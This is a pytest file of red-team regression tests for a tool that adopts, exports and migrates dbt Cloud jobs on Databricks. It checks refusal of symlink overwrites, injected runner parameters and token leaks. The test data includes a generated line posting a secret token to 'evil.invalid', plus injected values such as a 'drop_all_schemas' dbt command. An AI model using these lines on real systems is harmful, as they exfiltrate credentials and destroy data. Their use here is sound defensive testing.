"""Red-team findings on the issue-12 features: `dbtwf adopt`, `dbtwf export bundle`, the
dbt_platform backend and `dbtwf migrate`.

Each test reproduces one finding (over real HTTP against the emulators where a workspace is
involved) and failed before the fix that follows it in the history.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from provision.cli import app
from tests.provision_helpers import cli_env, write_config


def invoke(*args: str) -> Any:
    return CliRunner().invoke(app, list(args), env={"COLUMNS": "200"})


# --- export --force wrote through a symbolic link, over a file outside the bundle folder -----


@pytest.fixture
def one_env(tmp_path: Path, databricks: Any, dbt_cloud: Any, monkeypatch: pytest.MonkeyPatch) -> Path:
    config = write_config(tmp_path / "dbtwf.toml", dbt_cloud.url, {"dev": {"nightly": 42}})
    for name, value in cli_env(tmp_path, databricks.url).items():
        monkeypatch.setenv(name, value)
    return config


@pytest.mark.parametrize("link", ["databricks.yml", "src/dev/run_dbt_cloud_job.py", "src"])
def test_export_force_refuses_a_symbolic_link_in_the_bundle_folder(
    one_env: Path, tmp_path: Path, link: str
) -> None:
    """A bundle folder handed over (a cloned repository, say) holds `databricks.yml` (or a file
    or folder the export writes) as a symbolic link to a file of the user's outside it:
    `export bundle --force` followed the link and wrote the bundle over that file."""
    victim_dir = tmp_path / "elsewhere"
    (victim_dir / "dev").mkdir(parents=True)
    victim = victim_dir / "dev" / "run_dbt_cloud_job.py" if link == "src" else victim_dir / "notes.txt"
    victim.write_text("the user's own file")
    out = tmp_path / "bundle"
    (out / "src" / "dev").mkdir(parents=True)
    if link == "src":
        (out / "src" / "dev").rmdir()
        (out / "src").rmdir()
        os.symlink(victim_dir, out / "src")
    else:
        os.symlink(victim, out / link)
    (out / "README.md").write_text("keep me")

    result = invoke("export", "bundle", "--out", str(out), "--force")

    assert victim.read_text() == "the user's own file"
    assert result.exit_code == 2, result.output
    assert "symbolic link" in result.output and "nothing was written" in result.output
    assert not (out / "databricks.yml").exists() or (out / "databricks.yml").is_symlink()


# --- adopt turned parameters the guide's code ignored into runner options --------------------


@pytest.fixture
def ws(databricks: Any) -> Any:
    from tests.provision_helpers import make_workspace

    return make_workspace(databricks)


@pytest.fixture
def adopt_cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, databricks: Any) -> Any:
    """`dbtwf ...` in-process with no dbt token anywhere and no dbtwf.toml yet."""
    for name, value in cli_env(tmp_path, databricks.url, token=None).items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("DBT_CLOUD_API_TOKEN", raising=False)

    def run(*args: str, input: str | None = None) -> Any:
        return CliRunner().invoke(app, list(args), input=input, env={"COLUMNS": "200"})

    return run


def seed_guide(ws: Any, databricks: Any, dbt_cloud: Any) -> Any:
    from tests.conftest import DBT_ACCOUNT_ID, DBT_CLOUD_TOKEN
    from tests.emulators.dbtcloud import Scenario
    from tests.guide_workspace import seed_guide_workspace

    databricks.add_cluster("0101-guide-cluster")
    dbt_cloud.add_job(42, scenario=Scenario(outcome="success", polls=1))
    return seed_guide_workspace(
        ws, dbt_host=dbt_cloud.url, account_id=DBT_ACCOUNT_ID, dbt_job_id=42, token=DBT_CLOUD_TOKEN
    )


@pytest.mark.parametrize(
    ("where", "name", "value"),
    [
        ("own-job", "steps_override", '["dbt run-operation drop_all_schemas"]'),
        ("foreign-task", "git_branch", "experiment"),
        ("own-job", "dbt_cloud_host", "evil.invalid"),
    ],
)
def test_adopt_refuses_parameters_the_guide_code_ignored_but_the_runner_obeys(
    adopt_cli: Any,
    ws: Any,
    databricks: Any,
    dbt_cloud: Any,
    tmp_path: Path,
    where: str,
    name: str,
    value: str,
) -> None:
    """The guide's code reads only the job_id widget: a job or task parameter named like a runner
    option (`steps_override`, `git_branch`, `wait`, ...) did nothing. Adopt put the runner in its
    place, which obeys them: every run now ran the dbt commands or branch that parameter names
    (or, for a pinned name such as dbt_cloud_host, every run was refused), without a word.
    add-task refuses such a workflow; adopt must too, before anything is written."""
    setup = seed_guide(ws, databricks, dbt_cloud)
    if where == "own-job":
        job = ws.get_job(setup.own_job_id)
        parameters = [*job["settings"]["parameters"], {"name": name, "default": value}]
        ws.update_job(setup.own_job_id, {"parameters": parameters})
    else:
        job = ws.get_job(setup.foreign_job_id)
        task = next(t for t in job["settings"]["tasks"] if t["task_key"] == "dbt_cloud")
        task["notebook_task"]["base_parameters"][name] = value
        ws.update_job(setup.foreign_job_id, {"tasks": [task]})
    folder = setup.notebook_path.rsplit("/", 1)[0]

    with databricks.recording() as requests:
        result = adopt_cli("adopt", "--folder", folder, "--yes")

    assert result.exit_code == 2, result.output
    assert name in result.output
    assert not [r for r in requests if r.is_write]
    assert not (tmp_path / "dbtwf.toml").exists()


# --- migrate back to the notebook let a foreign workflow's parameters steer the runner --------


@pytest.mark.parametrize(
    ("name", "value"), [("steps_override", '["dbt run-operation drop_all"]'), ("wait", "false")]
)
def test_migrate_back_to_the_notebook_refuses_a_foreign_workflow_steering_the_runner(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, databricks: Any, dbt_cloud: Any, name: str, value: str
) -> None:
    """add-task refuses a workflow whose job parameters are named like a runner option (they
    override the task's on every run). While the task is a dbt platform task such a parameter
    does nothing, so the workflow's owner may add one; `migrate --to notebook` then switched the
    task back to the runner, which obeyed it on every run, without a word."""
    from tests.conftest import DBT_ACCOUNT_ID, DBT_CLOUD_TOKEN
    from tests.emulators.dbtcloud import Scenario
    from tests.provision_helpers import make_workspace

    connection = "dbt_platform_conn"
    write_config(tmp_path / "dbtwf.toml", dbt_cloud.url, {"dev": {"nightly": 42}})
    for key, setting in cli_env(tmp_path, databricks.url).items():
        monkeypatch.setenv(key, setting)
    dbt_cloud.add_job(42, scenario=Scenario(outcome="success", polls=1))
    ws = make_workspace(databricks)
    assert invoke("apply", "--yes").exit_code == 0
    foreign = ws.create_job(
        {
            "name": "ETL",
            "tasks": [{"task_key": "ingest", "notebook_task": {"notebook_path": "/Shared/ingest"}}],
        }
    )
    assert invoke("add-task", "--workflow", str(foreign), "--dbt-job", "42", "--yes").exit_code == 0
    databricks.add_dbt_platform_connection(
        connection, dbt_url=dbt_cloud.url, account_id=DBT_ACCOUNT_ID, token=DBT_CLOUD_TOKEN
    )
    there = invoke("migrate", "--to", "dbt_platform", "--connection", connection, "--yes")
    assert there.exit_code == 0, there.output
    ws.update_job(foreign, {"parameters": [{"name": name, "default": value}]})
    before = ws.get_job(foreign)["settings"]["tasks"]

    back = invoke("migrate", "--to", "notebook", "--yes")

    assert back.exit_code == 2, back.output
    assert name in back.output
    assert ws.get_job(foreign)["settings"]["tasks"] == before
    assert 'task_type = "dbt_platform"' in (tmp_path / "dbtwf.toml").read_text()


# --- destroy after adopt removed the tasks the user added to their workflow since -------------


def test_destroy_after_adopt_keeps_a_task_the_user_added_to_their_workflow_since(
    adopt_cli: Any, ws: Any, databricks: Any, dbt_cloud: Any
) -> None:
    """Adopt takes over the hand-made workflow; the user goes on adding their own tasks to it
    (a report after the dbt run). destroy "gives it back as adopt found it": it removed every
    task adopt had not seen, the user's own included, and the plan did not name them."""
    setup = seed_guide(ws, databricks, dbt_cloud)
    assert adopt_cli("adopt", "--notebook", setup.notebook_path, "--yes").exit_code == 0
    report = {
        "task_key": "report",
        "depends_on": [{"task_key": "trigger_dbt_job"}],
        "notebook_task": {"notebook_path": "/Users/someone/report", "source": "WORKSPACE"},
        "existing_cluster_id": "0101-guide-cluster",
    }
    ws.update_job(setup.own_job_id, {"tasks": [report]})

    destroyed = adopt_cli("destroy", "--yes")

    assert destroyed.exit_code == 0, destroyed.output
    keys = [t["task_key"] for t in ws.get_job(setup.own_job_id)["settings"]["tasks"]]
    assert keys == ["report", "trigger_dbt_job"] or sorted(keys) == ["report", "trigger_dbt_job"]
    assert "report" in destroyed.output  # said: kept, not dbtwf's


# --- adopt of a setup in another user's home: they keep editing the code that reads the token --


def test_adopt_warns_when_the_notebook_lives_in_another_users_home(
    adopt_cli: Any, databricks: Any, dbt_cloud: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The README's protection of the token is where the notebook and the state record live:
    the deployer's home, which only they (and admins) can edit; plan warns for /Shared. Adopt
    keeps the notebook where it is: adopting (whole-workspace scan) the setup a colleague made in
    their own home left the runner, which reads the token the next apply stores, and the record
    destroy trusts, in a folder that colleague edits, without a word."""
    from databricks.sdk import WorkspaceClient

    from provision.databricks import Workspace
    from tests.conftest import DBT_ACCOUNT_ID, DBT_CLOUD_TOKEN
    from tests.emulators.dbtcloud import Scenario
    from tests.guide_workspace import seed_guide_workspace

    databricks.add_user("dapi-alice", "alice@example.com")
    databricks.add_user("dapi-admin", "admin@example.com", admin=True)
    monkeypatch.setenv("DATABRICKS_TOKEN", "dapi-admin")  # a workspace admin adopts
    databricks.add_cluster("0101-guide-cluster")
    dbt_cloud.add_job(42, scenario=Scenario(outcome="success", polls=1))
    setup = seed_guide_workspace(
        Workspace(WorkspaceClient(host=databricks.url, token="dapi-alice")),
        dbt_host=dbt_cloud.url,
        account_id=DBT_ACCOUNT_ID,
        dbt_job_id=42,
        token=DBT_CLOUD_TOKEN,
        folder="/Users/alice@example.com/dbt",
    )

    result = adopt_cli("adopt", "--notebook", setup.notebook_path)  # no --yes: plan shown, not confirmed

    assert result.exit_code != 0
    assert "alice@example.com can edit" in result.output, result.output
    assert databricks.workspace_file(setup.notebook_path + ".dbtwf-backup.py") is None  # nothing written


# --- a notebook anyone can save held the whole-workspace scan for minutes ----------------------


def _chained(n: int, leak: bool = False) -> str:
    """The guide's code, then the token passed down a chain of n assignments written last to
    first (each pass of a fixed point over every binding taints one more)."""
    from tests.guide_workspace import guide_source

    chain = [f"a{i} = a{i - 1}" for i in range(n, 0, -1)]
    chain.append("a0 = dbutils.secrets.get(scope='dbt-cloud', key='api-key')")
    if leak:
        chain.append(f'requests.post("https://evil.invalid/collect", data=a{n})')
    return guide_source("cloud.getdbt.com", 1) + "\n" + "\n".join(chain) + "\n"


def test_a_long_chain_of_assignments_is_read_in_linear_work(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any user can save a notebook where adopt's whole-workspace scan reads it (their home,
    /Shared). Following the token through the code was a fixed point re-walking every binding
    until nothing changed: quadratic, 2,000 chained assignments took ~8 s of CPU, 20,000 (a
    200 kB notebook) ~13 min, and the scan waited for it. Counted in nodes walked, not seconds."""
    import ast

    import provision.adopt.recognise as recognise_module

    walked = 0
    real_walk = ast.walk

    def counting_walk(node: ast.AST) -> Any:
        nonlocal walked
        for inner in real_walk(node):
            walked += 1
            yield inner

    n = 1000
    source = _chained(n)
    size = sum(1 for _ in real_walk(ast.parse(source)))
    monkeypatch.setattr(recognise_module.ast, "walk", counting_walk)
    assert recognise_module.recognise(source, "/x").kind == "guide"
    assert walked < 20 * size, (walked, size)
    # The token handed on at the end of the chain is still followed.
    refused = recognise_module.recognise(_chained(n, leak=True), "/x")
    assert refused.kind == "refused" and "evil.invalid" in refused.reason


# --- adopt took over a workflow someone else made for the user's notebook, without saying whose --


def test_adopt_names_who_made_the_workflow_it_takes_over_when_not_you(
    adopt_cli: Any, ws: Any, databricks: Any, dbt_cloud: Any
) -> None:
    """Anyone may create a workflow running a notebook path they do not own. When the user's
    own workflows run other tasks too, adopt takes the one made for the notebook: a colleague's
    (or an attacker's), with their dbt job ids, schedule and cluster written into dbtwf.toml and
    their job becoming the environment's workflow, which they still own. The plan named the
    workflow only; it must say who made it before the user confirms."""
    from databricks.sdk import WorkspaceClient

    from provision.databricks import Workspace

    setup = seed_guide(ws, databricks, dbt_cloud)
    ws.delete_job(setup.own_job_id)  # the user's only workflow also runs an ingest task
    databricks.add_user("dapi-mallory", "mallory@example.com")
    theirs = Workspace(WorkspaceClient(host=databricks.url, token="dapi-mallory")).create_job(
        {
            "name": "dbt nightly",
            "parameters": [{"name": "job_id", "default": "42"}],
            "tasks": [
                {
                    "task_key": "dbt",
                    "notebook_task": {"notebook_path": setup.notebook_path, "source": "WORKSPACE"},
                    "existing_cluster_id": "0101-guide-cluster",
                }
            ],
        }
    )
    if ws.get_job(theirs) is None:
        pytest.skip("the emulator does not show another user's job")

    result = adopt_cli("adopt", "--notebook", setup.notebook_path)  # no --yes: plan, no write

    assert "dbt nightly" in result.output, result.output
    assert "mallory@example.com" in result.output, result.output


# --- anyone's workflow with a bad job_id blocked the adopt of the user's setup ---------------


def test_a_stranger_workflow_with_a_bad_job_id_does_not_block_adopt(
    adopt_cli: Any, ws: Any, databricks: Any, dbt_cloud: Any
) -> None:
    """Any user may create a workflow running the user's notebook path; one passing job_id
    "oops" made every adopt of the user's setup stop (exit 2: "set the task's job_id"), on a
    workflow the user may not edit. It is not the workflow adopt takes over: left alone, said."""
    from databricks.sdk import WorkspaceClient

    from provision.databricks import Workspace

    setup = seed_guide(ws, databricks, dbt_cloud)
    databricks.add_user("dapi-mallory", "mallory@example.com")
    theirs = Workspace(WorkspaceClient(host=databricks.url, token="dapi-mallory")).create_job(
        {
            "name": "not yours",
            "tasks": [
                {
                    "task_key": "t",
                    "notebook_task": {
                        "notebook_path": setup.notebook_path,
                        "base_parameters": {"job_id": "oops"},
                    },
                }
            ],
        }
    )
    if ws.get_job(theirs) is None:
        pytest.skip("the emulator does not show another user's job")
    before = ws.get_job(theirs)

    result = adopt_cli("adopt", "--notebook", setup.notebook_path, "--yes")

    assert result.exit_code == 0, result.output
    assert "not yours" in result.output and "left alone" in result.output
    assert ws.get_job(theirs) == before
